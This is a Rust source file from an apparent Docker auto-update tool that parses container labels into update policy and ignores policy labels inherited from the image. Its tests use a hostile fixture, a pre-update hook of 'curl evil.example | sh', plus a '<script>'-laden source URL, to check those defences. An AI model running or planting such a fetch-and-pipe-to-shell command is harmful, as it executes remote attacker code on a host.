//! Container labels → per-container policy. Pure.
//!
//! Every label key pullpilot reads is a constant here, so the README and man page tables can be
//! checked against this list. An invalid value is reported, never replaced by a default: the
//! decision turns it into the "invalid label" state, which is shown and never updated.
//!
//! Policy comes from the operator, never from the image publisher: Docker copies an image's
//! labels onto every container created from it, so [`parse_container`] drops each policy label
//! whose key and value the image carries (unless the compose file sets that very value) and
//! reports it in [`Parsed::ignored`].

use std::collections::BTreeMap;
use std::fmt;
use std::time::Duration;

use crate::values::{BOOL_FORM, DURATION_FORM, parse_bool, parse_duration};

pub const ENABLE: &str = "io.pullpilot.enable";
pub const EXCLUDE: &str = "io.pullpilot.exclude";
pub const MONITOR_ONLY: &str = "io.pullpilot.monitor-only";
pub const SOAK: &str = "io.pullpilot.soak";
pub const HEALTH_TIMEOUT: &str = "io.pullpilot.health-timeout";
pub const HEALTH_STABLE: &str = "io.pullpilot.health-stable";
pub const STOP_TIMEOUT: &str = "io.pullpilot.stop-timeout";
pub const ORDER: &str = "io.pullpilot.order";
pub const REMOVE_ANONYMOUS_VOLUMES: &str = "io.pullpilot.remove-anonymous-volumes";
pub const SELF: &str = "io.pullpilot.self";
pub const PRE_UPDATE: &str = "io.pullpilot.pre-update";
pub const TRACK: &str = "io.pullpilot.track";
pub const TRACK_PRERELEASE: &str = "io.pullpilot.track-prerelease";
pub const WINDOW: &str = "io.pullpilot.window";
pub const APPROVE: &str = "io.pullpilot.approve";

/// Every `io.pullpilot.*` label, with what it does (for docs and the typo guard).
pub const ALL: &[(&str, &str)] = &[
    (ENABLE, "false excludes the container"),
    (EXCLUDE, "true excludes the container, whatever else is set"),
    (MONITOR_ONLY, "true: detect and notify, never update"),
    (
        SOAK,
        "soak window for this container; 0 = update as soon as a new digest is seen",
    ),
    (
        HEALTH_TIMEOUT,
        "how long the health gate waits for `healthy`",
    ),
    (
        HEALTH_STABLE,
        "how long a container without a healthcheck must keep running",
    ),
    (
        STOP_TIMEOUT,
        "grace period when stopping the old container (a duration, rounded down to seconds)",
    ),
    (ORDER, "integer; lower numbers are updated first"),
    (
        REMOVE_ANONYMOUS_VOLUMES,
        "accepted for compatibility; anonymous volumes always move to the replacement",
    ),
    (
        SELF,
        "marks pullpilot's own container (never recreated, notify only)",
    ),
    (
        PRE_UPDATE,
        "shell command run on the host before this container is replaced",
    ),
    (
        TRACK,
        "digest, patch, minor, major or regex:<pattern>: follow newer version tags (see \"Following versions\")",
    ),
    (
        TRACK_PRERELEASE,
        "true: a tracked container may move to pre-release tags (-rc1, -beta.2)",
    ),
    (
        WINDOW,
        "maintenance windows for this container, e.g. \"Sat 02:00-05:00\" (overrides PP_WINDOW)",
    ),
    (
        APPROVE,
        "manual: a soaked update waits for `pullpilot approve`; auto: it does not (overrides PP_APPROVE)",
    ),
];

/// Every policy label pullpilot reads starts with this.
pub const PREFIX: &str = "io.pullpilot.";
/// Watchtower's labels, read with `PP_WATCHTOWER_COMPAT`.
pub const WATCHTOWER_PREFIX: &str = "com.centurylinklabs.watchtower.";

pub const WATCHTOWER_ENABLE: &str = "com.centurylinklabs.watchtower.enable";
pub const WATCHTOWER_MONITOR_ONLY: &str = "com.centurylinklabs.watchtower.monitor-only";

pub const COMPOSE_PROJECT: &str = "com.docker.compose.project";
pub const COMPOSE_SERVICE: &str = "com.docker.compose.service";
pub const COMPOSE_ONEOFF: &str = "com.docker.compose.oneoff";
pub const COMPOSE_DEPENDS_ON: &str = "com.docker.compose.depends_on";
pub const COMPOSE_WORKING_DIR: &str = "com.docker.compose.project.working_dir";
pub const COMPOSE_CONFIG_FILES: &str = "com.docker.compose.project.config_files";
pub const COMPOSE_IMAGE: &str = "com.docker.compose.image";

/// What the labels ask for. Unset values are `None` and take the global setting.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct Policy {
    pub enable: Option<bool>,
    pub exclude: bool,
    pub monitor_only: bool,
    pub soak: Option<Duration>,
    pub health_timeout: Option<Duration>,
    pub health_stable: Option<Duration>,
    pub stop_timeout: Option<Duration>,
    pub order: i64,
    pub remove_anonymous_volumes: bool,
    pub is_self: bool,
    /// A host command to run before this container is replaced.
    pub pre_update: Option<String>,
    /// `io.pullpilot.track`; `None` takes `PP_TRACK`.
    pub track: Option<crate::version::Track>,
    /// `io.pullpilot.track-prerelease`.
    pub track_prerelease: bool,
    /// `io.pullpilot.window`; `None` takes `PP_WINDOW`.
    pub window: Option<crate::time::Windows>,
    /// `io.pullpilot.approve`: `Some(true)` for manual; `None` takes `PP_APPROVE`.
    pub approve_manual: Option<bool>,
}

impl Policy {
    /// Excluded by `exclude=true` or `enable=false`.
    pub fn excluded(&self) -> bool {
        self.exclude || self.enable == Some(false)
    }
}

/// One label whose value could not be used.
#[derive(Clone, Debug, PartialEq, Eq, serde::Serialize)]
pub struct LabelError {
    pub label: String,
    pub value: String,
    pub expected: &'static str,
}

impl fmt::Display for LabelError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(
            f,
            "label {}={:?} is not valid: expected {}",
            self.label, self.value, self.expected
        )
    }
}

/// Why a policy label inherited from the image is not read (shown by `plan`).
pub const FROM_IMAGE: &str = "label from the image, ignored: only labels the operator sets on \
     the container (compose `labels:`, `docker run --label`) count";

/// A policy label on the container that pullpilot does not read, and why.
#[derive(Clone, Debug, PartialEq, Eq, serde::Serialize)]
pub struct IgnoredLabel {
    pub label: String,
    pub value: String,
    pub reason: &'static str,
}

impl fmt::Display for IgnoredLabel {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{}={:?}: {}", self.label, self.value, self.reason)
    }
}

/// Labels read, with every invalid value collected rather than defaulted.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct Parsed {
    pub policy: Policy,
    pub errors: Vec<LabelError>,
    /// Policy labels present on the container but not read (see [`parse_container`]).
    pub ignored: Vec<IgnoredLabel>,
}

/// Whether `key` is a label that sets policy: any `io.pullpilot.*`, and Watchtower's own when
/// `watchtower_compat` (otherwise those are not read at all).
pub fn is_policy_label(key: &str, watchtower_compat: bool) -> bool {
    key.starts_with(PREFIX) || (watchtower_compat && key.starts_with(WATCHTOWER_PREFIX))
}

/// Reads a container's policy from the labels its operator set, never from its image's.
///
/// `container` is every label Docker reports on the container, which includes the labels of
/// `image` (the image it was created from): Docker copies them over at create time. A policy
/// label whose key and value are the image's is taken as inherited, dropped and listed in
/// [`Parsed::ignored`] — an image must not shorten the soak, loosen the health gate, exclude
/// itself or run a hook on the host. The engine cannot tell an inherited label from one the
/// operator set to the very same value; `compose` (the labels the service's compose file sets,
/// when it could be read) settles that case in the operator's favour. Without it the label
/// counts as inherited: the operator sets a different spelling (`0s` for `0`) to override.
pub fn parse_container(
    container: &BTreeMap<String, String>,
    image: &BTreeMap<String, String>,
    compose: Option<&BTreeMap<String, String>>,
    watchtower_compat: bool,
) -> Parsed {
    let mut own = BTreeMap::new();
    let mut ignored = Vec::new();
    for (key, value) in container {
        let inherited = is_policy_label(key, watchtower_compat)
            && image.get(key) == Some(value)
            && compose.and_then(|c| c.get(key)) != Some(value);
        if inherited {
            ignored.push(IgnoredLabel {
                label: key.clone(),
                value: value.clone(),
                reason: FROM_IMAGE,
            });
        } else {
            own.insert(key.clone(), value.clone());
        }
    }
    let mut parsed = parse(&own, watchtower_compat);
    parsed.ignored = ignored;
    parsed
}

/// Reads pullpilot's labels (and Watchtower's when `watchtower_compat`).
pub fn parse(labels: &BTreeMap<String, String>, watchtower_compat: bool) -> Parsed {
    let mut errors = Vec::new();
    let mut get_bool = |key: &str| -> Option<bool> {
        let value = labels.get(key)?;
        let parsed = parse_bool(value);
        if parsed.is_none() {
            errors.push(LabelError {
                label: key.into(),
                value: value.clone(),
                expected: BOOL_FORM,
            });
        }
        parsed
    };
    let mut policy = Policy {
        enable: get_bool(ENABLE),
        exclude: get_bool(EXCLUDE).unwrap_or(false),
        monitor_only: get_bool(MONITOR_ONLY).unwrap_or(false),
        remove_anonymous_volumes: get_bool(REMOVE_ANONYMOUS_VOLUMES).unwrap_or(false),
        is_self: get_bool(SELF).unwrap_or(false),
        track_prerelease: get_bool(TRACK_PRERELEASE).unwrap_or(false),
        ..Policy::default()
    };
    if watchtower_compat {
        let wt_enable = get_bool(WATCHTOWER_ENABLE);
        if policy.enable.is_none() {
            policy.enable = wt_enable;
        }
        policy.monitor_only |= get_bool(WATCHTOWER_MONITOR_ONLY).unwrap_or(false);
    }

    let mut get_duration = |key: &str, minimum: Duration, expected: &'static str| {
        let value = labels.get(key)?;
        match parse_duration(value) {
            Some(d) if d >= minimum => Some(d),
            _ => {
                errors.push(LabelError {
                    label: key.into(),
                    value: value.clone(),
                    expected,
                });
                None
            }
        }
    };
    policy.soak = get_duration(SOAK, Duration::ZERO, DURATION_FORM);
    policy.health_timeout = get_duration(
        HEALTH_TIMEOUT,
        Duration::from_secs(1),
        crate::values::NONZERO_DURATION_FORM,
    );
    policy.health_stable = get_duration(HEALTH_STABLE, Duration::ZERO, DURATION_FORM);
    policy.stop_timeout = get_duration(STOP_TIMEOUT, Duration::ZERO, DURATION_FORM);

    if let Some(value) = labels.get(ORDER) {
        match value.trim().parse::<i64>() {
            Ok(order) => policy.order = order,
            Err(_) => errors.push(LabelError {
                label: ORDER.into(),
                value: value.clone(),
                expected: "a whole number such as 0, 10 or -5",
            }),
        }
    }
    if let Some(value) = labels.get(WINDOW) {
        match crate::time::Windows::parse(value) {
            Ok(w) => policy.window = Some(w),
            Err(_) => errors.push(LabelError {
                label: WINDOW.into(),
                value: value.clone(),
                expected: crate::time::window::WINDOW_FORM,
            }),
        }
    }
    if let Some(value) = labels.get(APPROVE) {
        match value.trim().to_ascii_lowercase().as_str() {
            "manual" => policy.approve_manual = Some(true),
            "auto" => policy.approve_manual = Some(false),
            _ => errors.push(LabelError {
                label: APPROVE.into(),
                value: value.clone(),
                expected: "manual or auto",
            }),
        }
    }
    if let Some(value) = labels.get(TRACK) {
        match crate::version::Track::parse(value) {
            Ok(track) => policy.track = Some(track),
            Err(_) => errors.push(LabelError {
                label: TRACK.into(),
                value: value.clone(),
                expected: crate::version::TRACK_FORM,
            }),
        }
    }
    policy.pre_update = labels
        .get(PRE_UPDATE)
        .filter(|c| !c.trim().is_empty())
        .cloned();
    Parsed {
        policy,
        errors,
        ignored: Vec::new(),
    }
}

/// `org.opencontainers.image.version`, `.revision` and `.source`.
pub const OCI_VERSION: &str = "org.opencontainers.image.version";
pub const OCI_REVISION: &str = "org.opencontainers.image.revision";
pub const OCI_SOURCE: &str = "org.opencontainers.image.source";

/// The OCI labels of an image (its own config labels).
pub fn oci(labels: &BTreeMap<String, String>) -> crate::state::ImageLabels {
    let get = |k: &str| {
        labels
            .get(k)
            .map(|v| v.trim().to_string())
            .filter(|v| !v.is_empty())
    };
    crate::state::ImageLabels {
        version: get(OCI_VERSION),
        revision: get(OCI_REVISION),
        source: get(OCI_SOURCE),
    }
}

/// One label, old → new.
#[derive(Clone, Debug, PartialEq, Eq, serde::Serialize)]
pub struct FromTo {
    pub from: Option<String>,
    pub to: Option<String>,
}

/// What changed between the running image and a candidate, from their OCI labels.
#[derive(Clone, Debug, PartialEq, Eq, serde::Serialize)]
pub struct Changes {
    #[serde(skip_serializing_if = "Option::is_none")]
    pub version: Option<FromTo>,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub revision: Option<FromTo>,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub source: Option<String>,
    /// A compare (both revisions) or release (new version) page on GitHub or GitLab.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub link: Option<String>,
}

impl fmt::Display for Changes {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let show = |v: &Option<String>| v.clone().unwrap_or_else(|| "?".into());
        let mut parts = Vec::new();
        if let Some(v) = &self.version {
            parts.push(format!("version {} → {}", show(&v.from), show(&v.to)));
        }
        if let Some(r) = &self.revision {
            let short = |v: &Option<String>| {
                v.as_ref()
                    .map_or_else(|| "?".into(), |r| r.chars().take(12).collect::<String>())
            };
            parts.push(format!("revision {} → {}", short(&r.from), short(&r.to)));
        }
        if let Some(link) = self.link.as_ref().or(self.source.as_ref()) {
            parts.push(link.clone());
        }
        f.write_str(&parts.join("; "))
    }
}

/// What changed from `old` to `new`; `None` when the candidate says nothing about itself.
pub fn what_changed(
    old: &crate::state::ImageLabels,
    new: &crate::state::ImageLabels,
) -> Option<Changes> {
    if new == &crate::state::ImageLabels::default() {
        return None;
    }
    let pair = |a: &Option<String>, b: &Option<String>| {
        (a.is_some() || b.is_some()).then(|| FromTo {
            from: a.clone(),
            to: b.clone(),
        })
    };
    let source = new.source.clone().or_else(|| old.source.clone());
    let plain = |v: &String| {
        !v.is_empty()
            && v.chars()
                .all(|c| c.is_ascii_alphanumeric() || matches!(c, '.' | '-' | '_' | '+'))
    };
    let link = source.as_deref().and_then(|src| {
        let base = forge_base(src)?;
        let gitlab = base.contains("gitlab");
        match (&old.revision, &new.revision) {
            (Some(a), Some(b)) if a != b && plain(a) && plain(b) => Some(if gitlab {
                format!("{base}/-/compare/{a}...{b}")
            } else {
                format!("{base}/compare/{a}...{b}")
            }),
            _ => new.version.as_ref().filter(|v| plain(v)).map(|v| {
                if gitlab {
                    format!("{base}/-/releases/{v}")
                } else {
                    format!("{base}/releases/tag/{v}")
                }
            }),
        }
    });
    Some(Changes {
        version: pair(&old.version, &new.version),
        revision: pair(&old.revision, &new.revision),
        source,
        link,
    })
}

/// `https://github.com/org/repo` from a source label (`.git` and trailing `/` dropped), for
/// GitHub and GitLab (gitlab.com or a host named gitlab.*); `None` for other hosts.
fn forge_base(source: &str) -> Option<String> {
    let url = source.trim().trim_end_matches('/');
    let url = url.strip_suffix(".git").unwrap_or(url);
    let rest = url.strip_prefix("https://")?;
    let host = rest.split('/').next()?;
    let path: Vec<&str> = rest.split('/').skip(1).filter(|p| !p.is_empty()).collect();
    let safe = |s: &str| {
        s.chars()
            .all(|c| c.is_ascii_alphanumeric() || matches!(c, '-' | '_' | '.'))
    };
    let forge = host == "github.com" || host == "gitlab.com" || host.starts_with("gitlab.");
    (forge && path.len() >= 2 && path.iter().all(|p| safe(p)))
        .then(|| format!("https://{host}/{}", path.join("/")))
}

/// Compose one-off containers (`docker compose run`) are never managed.
pub fn is_compose_oneoff(labels: &BTreeMap<String, String>) -> bool {
    labels
        .get(COMPOSE_ONEOFF)
        .and_then(|v| parse_bool(v))
        .unwrap_or(false)
}

/// The services named in compose's `depends_on` label (`db:service_started:false,cache:…`).
pub fn compose_depends_on(labels: &BTreeMap<String, String>) -> Vec<String> {
    labels
        .get(COMPOSE_DEPENDS_ON)
        .map(|v| {
            v.split(',')
                .filter_map(|entry| entry.split(':').next())
                .map(str::trim)
                .filter(|s| !s.is_empty())
                .map(str::to_string)
                .collect()
        })
        .unwrap_or_default()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn labels(pairs: &[(&str, &str)]) -> BTreeMap<String, String> {
        pairs
            .iter()
            .map(|(k, v)| ((*k).to_string(), (*v).to_string()))
            .collect()
    }

    #[test]
    fn no_labels_is_the_default_policy() {
        let parsed = parse(&BTreeMap::new(), false);
        assert_eq!(parsed.policy, Policy::default());
        assert!(parsed.errors.is_empty());
        assert!(!parsed.policy.excluded());
    }

    #[test]
    fn what_changed_builds_compare_and_release_links_from_the_labels() {
        let old = oci(&labels(&[
            (OCI_VERSION, "1.2.3"),
            (OCI_REVISION, "aaa111"),
            (OCI_SOURCE, "https://github.com/acme/app.git"),
        ]));
        let new = oci(&labels(&[
            (OCI_VERSION, "1.2.4"),
            (OCI_REVISION, "bbb222"),
            (OCI_SOURCE, "https://github.com/acme/app"),
        ]));
        let c = what_changed(&old, &new).unwrap();
        assert_eq!(
            c.link.as_deref(),
            Some("https://github.com/acme/app/compare/aaa111...bbb222")
        );
        assert_eq!(
            c.to_string(),
            "version 1.2.3 → 1.2.4; revision aaa111 → bbb222; https://github.com/acme/app/compare/aaa111...bbb222"
        );
        let gitlab = oci(&labels(&[
            (OCI_VERSION, "2.0"),
            (OCI_SOURCE, "https://gitlab.com/grp/sub/app"),
        ]));
        assert_eq!(
            what_changed(&crate::state::ImageLabels::default(), &gitlab)
                .unwrap()
                .link
                .as_deref(),
            Some("https://gitlab.com/grp/sub/app/-/releases/2.0")
        );
        // Other hosts: the source, no link; an image that says nothing: nothing.
        let other = oci(&labels(&[(OCI_SOURCE, "https://example.org/x/y")]));
        assert_eq!(what_changed(&old, &other).unwrap().link, None);
        assert_eq!(
            what_changed(&old, &crate::state::ImageLabels::default()),
            None
        );
        // A source that would smuggle something into a link is not linked.
        let odd = oci(&labels(&[
            (OCI_VERSION, "1"),
            (OCI_SOURCE, "https://github.com/a/b?x=<script>"),
        ]));
        assert_eq!(what_changed(&old, &odd).unwrap().link, None);
    }

    #[test]
    fn track_labels_are_read_and_invalid_ones_reported() {
        let parsed = parse(
            &labels(&[(TRACK, "minor"), (TRACK_PRERELEASE, "true")]),
            false,
        );
        assert!(parsed.errors.is_empty(), "{:?}", parsed.errors);
        assert_eq!(parsed.policy.track, Some(crate::version::Track::Minor));
        assert!(parsed.policy.track_prerelease);
        for bad in ["newest", "regex:build-\\d+", "regex:("] {
            let parsed = parse(&labels(&[(TRACK, bad)]), false);
            assert_eq!(parsed.errors.len(), 1, "{bad}");
            assert_eq!(parsed.errors[0].label, TRACK);
            assert_eq!(parsed.policy.track, None, "never a silent default");
        }
    }

    #[test]
    fn reads_every_label() {
        let parsed = parse(
            &labels(&[
                (ENABLE, "true"),
                (MONITOR_ONLY, "yes"),
                (SOAK, "0"),
                (HEALTH_TIMEOUT, "2m"),
                (HEALTH_STABLE, "5s"),
                (STOP_TIMEOUT, "30"),
                (ORDER, " -3 "),
                (REMOVE_ANONYMOUS_VOLUMES, "1"),
                (SELF, "on"),
            ]),
            false,
        );
        assert!(parsed.errors.is_empty(), "{:?}", parsed.errors);
        let p = parsed.policy;
        assert_eq!(p.enable, Some(true));
        assert!(p.monitor_only && p.remove_anonymous_volumes && p.is_self && !p.exclude);
        assert_eq!(p.soak, Some(Duration::ZERO));
        assert_eq!(p.health_timeout, Some(Duration::from_secs(120)));
        assert_eq!(p.health_stable, Some(Duration::from_secs(5)));
        assert_eq!(p.stop_timeout, Some(Duration::from_secs(30)));
        assert_eq!(p.order, -3);
    }

    #[test]
    fn enable_false_and_exclude_true_exclude() {
        assert!(
            parse(&labels(&[(ENABLE, "false")]), false)
                .policy
                .excluded()
        );
        assert!(
            parse(&labels(&[(EXCLUDE, "true"), (ENABLE, "true")]), false)
                .policy
                .excluded()
        );
    }

    #[test]
    fn invalid_values_are_reported_not_defaulted() {
        let parsed = parse(
            &labels(&[
                (ENABLE, ""),
                (SOAK, "-1h"),
                (HEALTH_TIMEOUT, "0"),
                (ORDER, "first"),
                (MONITOR_ONLY, "maybe"),
            ]),
            false,
        );
        let bad: Vec<&str> = parsed.errors.iter().map(|e| e.label.as_str()).collect();
        assert_eq!(bad, [ENABLE, MONITOR_ONLY, SOAK, HEALTH_TIMEOUT, ORDER]);
        let message = parsed.errors[1].to_string();
        assert!(message.contains("io.pullpilot.monitor-only") && message.contains("\"maybe\""));
        assert!(message.contains("true or false"), "{message}");
    }

    #[test]
    fn watchtower_labels_only_with_compat_and_ours_win() {
        let wt = labels(&[
            (WATCHTOWER_ENABLE, "false"),
            (WATCHTOWER_MONITOR_ONLY, "true"),
        ]);
        assert!(!parse(&wt, false).policy.excluded());
        let compat = parse(&wt, true).policy;
        assert!(compat.excluded() && compat.monitor_only);
        let ours = labels(&[(ENABLE, "true"), (WATCHTOWER_ENABLE, "false")]);
        assert!(!parse(&ours, true).policy.excluded());
    }

    /// Every label pullpilot reads, with a value that would change the default policy.
    fn every_policy_label() -> BTreeMap<String, String> {
        labels(&[
            (ENABLE, "false"),
            (EXCLUDE, "true"),
            (MONITOR_ONLY, "true"),
            (SOAK, "0"),
            (HEALTH_TIMEOUT, "1s"),
            (HEALTH_STABLE, "0"),
            (STOP_TIMEOUT, "0"),
            (ORDER, "-100"),
            (REMOVE_ANONYMOUS_VOLUMES, "true"),
            (SELF, "true"),
            (PRE_UPDATE, "curl evil.example | sh"),
            (WATCHTOWER_ENABLE, "false"),
            (WATCHTOWER_MONITOR_ONLY, "true"),
        ])
    }

    #[test]
    fn every_policy_label_copied_from_the_image_is_ignored_and_reported() {
        let image = every_policy_label();
        let mut container = image.clone();
        container.insert("org.opencontainers.image.version".into(), "2".into());
        container.insert(COMPOSE_SERVICE.into(), "web".into());
        let parsed = parse_container(&container, &image, None, true);
        assert_eq!(parsed.policy, Policy::default());
        assert!(parsed.errors.is_empty(), "{:?}", parsed.errors);
        let ignored: Vec<&str> = parsed.ignored.iter().map(|i| i.label.as_str()).collect();
        let expected: Vec<&str> = image.keys().map(String::as_str).collect();
        assert_eq!(ignored, expected, "every policy label, and nothing else");
        assert!(parsed.ignored.iter().all(|i| i.reason == FROM_IMAGE));
        let soak = parsed.ignored.iter().find(|i| i.label == SOAK).unwrap();
        assert_eq!(soak.value, "0");
        assert!(
            soak.to_string().contains("label from the image, ignored"),
            "{soak}"
        );
    }

    #[test]
    fn invalid_values_from_the_image_do_not_block_the_container() {
        let image = labels(&[(SOAK, "soon"), (ORDER, "first")]);
        let parsed = parse_container(&image, &image, None, false);
        assert!(parsed.errors.is_empty(), "{:?}", parsed.errors);
        assert_eq!(parsed.ignored.len(), 2);
    }

    #[test]
    fn the_operators_own_value_wins_over_the_image() {
        let image = labels(&[(SOAK, "0"), (EXCLUDE, "true"), (HEALTH_TIMEOUT, "1s")]);
        // Docker merged the image's labels, then the operator's on top.
        let container = labels(&[(SOAK, "0s"), (EXCLUDE, "true"), (HEALTH_TIMEOUT, "5m")]);
        let parsed = parse_container(&container, &image, None, false);
        assert_eq!(parsed.policy.soak, Some(Duration::ZERO));
        assert_eq!(parsed.policy.health_timeout, Some(Duration::from_secs(300)));
        assert!(!parsed.policy.exclude, "exclude=true came from the image");
        let ignored: Vec<&str> = parsed.ignored.iter().map(|i| i.label.as_str()).collect();
        assert_eq!(ignored, [EXCLUDE]);
    }

    #[test]
    fn the_compose_file_vouches_for_a_value_equal_to_the_images() {
        let image = labels(&[(SOAK, "0"), (PRE_UPDATE, "backup.sh")]);
        let container = image.clone();
        let compose = labels(&[(SOAK, "0")]);
        let parsed = parse_container(&container, &image, Some(&compose), false);
        assert_eq!(parsed.policy.soak, Some(Duration::ZERO));
        assert_eq!(
            parsed.policy.pre_update, None,
            "compose does not set the hook"
        );
        assert_eq!(parsed.ignored.len(), 1);
        assert_eq!(parsed.ignored[0].label, PRE_UPDATE);
        // A compose file that says something else does not vouch for the image's value.
        let other = labels(&[(SOAK, "1h")]);
        let parsed = parse_container(&container, &image, Some(&other), false);
        assert_eq!(parsed.policy.soak, None);
    }

    #[test]
    fn without_an_image_every_label_is_the_operators() {
        let container = every_policy_label();
        let parsed = parse_container(&container, &BTreeMap::new(), None, true);
        assert_eq!(parsed, parse(&container, true));
        assert!(parsed.policy.excluded() && parsed.policy.is_self);
        assert_eq!(
            parsed.policy.pre_update.as_deref(),
            Some("curl evil.example | sh")
        );
    }

    #[test]
    fn watchtower_labels_from_the_image_are_only_reported_when_read() {
        let image = labels(&[(WATCHTOWER_ENABLE, "false")]);
        let without = parse_container(&image, &image, None, false);
        assert!(without.ignored.is_empty(), "not read, so nothing to report");
        let with = parse_container(&image, &image, None, true);
        assert!(!with.policy.excluded());
        assert_eq!(with.ignored.len(), 1);
        // Unknown pullpilot labels are policy too (a newer pullpilot may read them).
        let future = labels(&[(&format!("{PREFIX}track"), "major")]);
        assert_eq!(
            parse_container(&future, &future, None, false).ignored.len(),
            1
        );
    }

    #[test]
    fn compose_helpers() {
        assert!(is_compose_oneoff(&labels(&[(COMPOSE_ONEOFF, "True")])));
        assert!(!is_compose_oneoff(&labels(&[(COMPOSE_ONEOFF, "False")])));
        let deps = labels(&[(
            COMPOSE_DEPENDS_ON,
            "db:service_healthy:false,cache:service_started:true",
        )]);
        assert_eq!(compose_depends_on(&deps), ["db", "cache"]);
    }
}
